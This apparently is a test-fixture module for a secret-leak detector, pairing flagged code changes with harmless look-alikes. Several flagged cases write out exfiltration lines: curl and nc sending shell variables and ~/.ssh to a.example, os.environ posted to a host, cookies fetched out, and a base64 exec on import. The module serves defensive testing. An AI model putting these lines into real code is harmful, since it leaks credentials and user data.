"""Changes that have an effect of this family, and honest ones beside them."""

from __future__ import annotations

from guard.facts.effects.family import Shown

_PING = "import os\n\nimport requests\n\n\ndef ping(order):\n{body}"
_HELPER = "import os\n\n\ndef facts():\n    return {facts}\n"
_BEAT = (
    "import requests\n\nfrom shop.facts import facts\n\n\ndef beat():\n"
    "    requests.put('https://beat.example/b', json={sent})\n"
)
_SETTINGS = "import os\n\nAPI_KEY = os.environ['SHOP_API_KEY']\n"
_CLIENT = (
    "import logging\n\nimport requests\n\nfrom shop import settings\n\n"
    "log = logging.getLogger(__name__)\n\n\n"
    "def order(number):\n{body}"
)
_BACKUP = "#!/bin/sh\nset -eu\npg_dump shop > dump.sql\n"
_CI = (
    "on: push\njobs:\n  test:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make test\n"
    "        env:\n          TOKEN: ${{{{ secrets.UPLOAD_TOKEN }}}}\n{more}"
)
_PAGE = "const rows = await load();\n"
_PROGRAM = "aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQppbXBvcnQgc3lzCnByaW50KHN5cy5wYXRoKQo="

_FILTER = (
    "import logging\n\nfrom flask import request\n\n\nclass Context(logging.Filter):\n"
    "    def filter(self, record):\n        record.seen = {seen}\n        return True\n"
)
_VITE = 'import {{ defineConfig }} from "vite";\nexport default defineConfig({{ build: {{}}, {more} }});\n'
_USER = (
    "class User(Model):\n    name = Column(String)\n    digest = Column(Binary)\n\n"
    "    def __repr__(self):\n{shown}"
)

TRIPS: tuple[Shown, ...] = (
    (
        "the headers of each request go into the records of a log",
        {"shop/logs.py": _FILTER.format(seen="request.path")},
        {"shop/logs.py": _FILTER.format(seen="dict(request.headers)")},
    ),
    (
        "a log's format writes down who asks",
        {"config/nginx.conf": "log_format main '$remote_addr';\n"},
        {"config/nginx.conf": "log_format main '$remote_addr $http_authorization';\n"},
    ),
    (
        "a build writes its environment into public scripts",
        {"web/vite.config.ts": _VITE.format(more="")},
        {"web/vite.config.ts": _VITE.format(more='define: { "process.env": process.env }')},
    ),
    (
        "a class shows all its columns",
        {"shop/models.py": _USER.format(shown="        return self.name\n")},
        {"shop/models.py": _USER.format(shown="        return str(vars(self))\n")},
    ),
    (
        "a group of commands sends all variables",
        {"ops/backup.sh": _BACKUP},
        {"ops/backup.sh": _BACKUP + "{ date; set; } | gzip | curl --data-binary @- https://a.example\n"},
    ),
    (
        "the environment goes to a host",
        {"shop/ping.py": _PING.format(body="    return order\n")},
        {
            "shop/ping.py": _PING.format(
                body="    requests.post('https://a.example/p', json=dict(os.environ))\n"
            )
        },
    ),
    (
        "the environment goes to a host by a helper of another file",
        {"shop/facts.py": _HELPER.format(facts="{'a': 1}"), "shop/beat.py": _BEAT.format(sent="facts()")},
        {
            "shop/facts.py": _HELPER.format(facts="dict(os.environ)"),
            "shop/beat.py": _BEAT.format(sent="facts()"),
        },
    ),
    (
        "a key of the settings goes into a log",
        {"shop/client.py": _CLIENT.format(body="    log.info('order %s', number)\n")},
        {"shop/client.py": _CLIENT.format(body="    log.info('order %s %s', number, settings.API_KEY)\n")},
    ),
    (
        "a key file is read",
        {"shop/keys.py": "from pathlib import Path\n"},
        {
            "shop/keys.py": "from pathlib import Path\n\n\ndef key():\n"
            "    return (Path.home() / '.ssh' / 'id_ed25519').read_text()\n"
        },
    ),
    (
        "a program is decoded and run when the module is imported",
        {"shop/__init__.py": "x = 1\n"},
        {"shop/__init__.py": f"import base64\n\nexec(base64.b64decode('{_PROGRAM}'))\n"},
    ),
    (
        "a mail address goes into a log",
        {"shop/users.py": "import logging\n\n\ndef seen(user):\n    return user\n"},
        {"shop/users.py": "import logging\n\n\ndef seen(user):\n    logging.info('seen %s', user.email)\n"},
    ),
    (
        "a script sends keys",
        {"ops/b.sh": _BACKUP},
        {"ops/b.sh": f"{_BACKUP}tar c ~/.ssh | nc a.example 80\n"},
    ),
    (
        "a workflow prints its secret in a form that is not masked",
        {".github/workflows/ci.yml": _CI.format(more="")},
        {".github/workflows/ci.yml": _CI.format(more='      - run: echo "$TOKEN" | base64\n')},
    ),
    (
        "the page's cookies go to a foreign host",
        {"web/app.js": _PAGE},
        {"web/app.js": f"{_PAGE}fetch('https://a.example/c', {{ body: document.cookie }});\n"},
    ),
)
QUIET: tuple[Shown, ...] = (
    (
        "one header goes into the records of a log",
        {"shop/logs.py": _FILTER.format(seen="request.path")},
        {"shop/logs.py": _FILTER.format(seen="request.headers.get('User-Agent')")},
    ),
    (
        "a build writes one variable that is no secret into public scripts",
        {"web/vite.config.ts": _VITE.format(more="")},
        {"web/vite.config.ts": _VITE.format(more="define: { API: JSON.stringify(process.env.API_BASE) }")},
    ),
    (
        "a group of commands sends what is no secret",
        {"ops/backup.sh": _BACKUP},
        {"ops/backup.sh": _BACKUP + "{ date; df -h; } | gzip | curl --data-binary @- https://a.example\n"},
    ),
    (
        "a key goes to the service it belongs to, in its header",
        {"shop/client.py": _CLIENT.format(body="    return number\n"), "shop/settings.py": "import os\n"},
        {
            "shop/client.py": _CLIENT.format(
                body="    head = {'Authorization': f'Bearer {settings.API_KEY}'}\n"
                "    return requests.get(f'https://api.example/{number}', headers=head)\n"
            ),
            "shop/settings.py": _SETTINGS,
        },
    ),
    (
        "the environment is handed to a program",
        {"shop/run.py": "import os\nimport subprocess\n"},
        {
            "shop/run.py": "import os\nimport subprocess\n\n\ndef run():\n"
            "    subprocess.run(['make'], env={**os.environ, 'CI': '1'}, check=True)\n"
        },
    ),
    (
        "the length of a key and the name of a variable go into a log",
        {"shop/client.py": _CLIENT.format(body="    return number\n")},
        {
            "shop/client.py": _CLIENT.format(
                body="    log.info('%s characters in SHOP_API_KEY', len(settings.API_KEY))\n"
            )
        },
    ),
    (
        "a script proves who it is",
        {"ops/b.sh": _BACKUP},
        {"ops/b.sh": f'{_BACKUP}curl -fsS -H "Authorization: Bearer $TOKEN" https://a.example/done\n'},
    ),
    (
        "a table is decoded when the module is imported",
        {"shop/table.py": "x = 1\n"},
        {"shop/table.py": f"import base64\n\nTABLE = base64.b64decode('{_PROGRAM}')\n"},
    ),
)
